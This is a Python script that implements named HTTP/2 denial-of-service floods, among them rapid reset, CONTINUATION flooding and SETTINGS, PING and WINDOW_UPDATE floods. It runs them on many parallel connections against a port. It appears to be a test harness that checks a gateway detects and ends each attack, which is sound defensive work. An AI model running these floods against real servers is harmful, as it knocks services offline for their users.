#!/usr/bin/env python3
"""What is done with HTTP/2 to bring a server down, each by the name that the gateway counts it under.

As a program: h2_attacks.py PORT REASON SECONDS CONNECTIONS attacks on so many connections at a time, a new one for each
that the gateway ends, and prints how many it ended.
"""
import sys
import threading
import time

from h2_frames import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                       WINDOW_UPDATE, Attacker, field, frame, get)

LONGEST = 10  # seconds of one attack


def rapid_reset():
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, get("/slow")) + frame(RST_STREAM, 0, s, CANCEL)
                       for s in range(stream, stream + 100, 2))
        stream += 100


def continuations():
    yield frame(HEADERS, END_STREAM, 1, get())
    while True:
        yield frame(CONTINUATION, 0, 1, field("x-more", "1" * 100)) * 50


def repeated(*first, again):
    yield b"".join(first)
    while True:
        yield again * 100


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuations": continuations,
    "settings": lambda: repeated(again=frame(SETTINGS, 0, 0)),
    "pings": lambda: repeated(again=frame(PING, 0, 0, b"12345678")),
    "empty_frames": lambda: repeated(frame(HEADERS, END_HEADERS, 1, get("/slow")), again=frame(DATA, 0, 1)),
    "priorities": lambda: repeated(again=frame(PRIORITY, 0, 3, bytes(5))),
    "window_updates": lambda: repeated(again=frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "unknown_frames": lambda: repeated(again=frame(0xee, 0, 0, b"?")),
}


def attack(port, reason, seconds=LONGEST):
    """Until the gateway has had enough; the code of its GOAWAY, None when the time was over before."""
    attacker = Attacker(port)
    codes = []
    listener = threading.Thread(target=lambda: codes.append(attacker.goaway()))
    listener.start()
    end = time.monotonic() + seconds
    try:
        for piece in ATTACKS[reason]():
            if not listener.is_alive() or time.monotonic() > end or not attacker.send(piece):
                break
        listener.join(max(0.0, end - time.monotonic()))
    finally:
        attacker.cut()
        listener.join()
        attacker.close()
    return codes[0] if codes else None


def besiege(port, reason, seconds, connections):
    end, ended = time.monotonic() + seconds, []

    def one():
        while (left := end - time.monotonic()) > 0:
            try:
                if attack(port, reason, left) is not None:
                    ended.append(1)
            except OSError:
                time.sleep(0.01)  # the connection was refused: who floods tries again
    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return len(ended)


if __name__ == "__main__":
    print(besiege(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), int(sys.argv[4])))
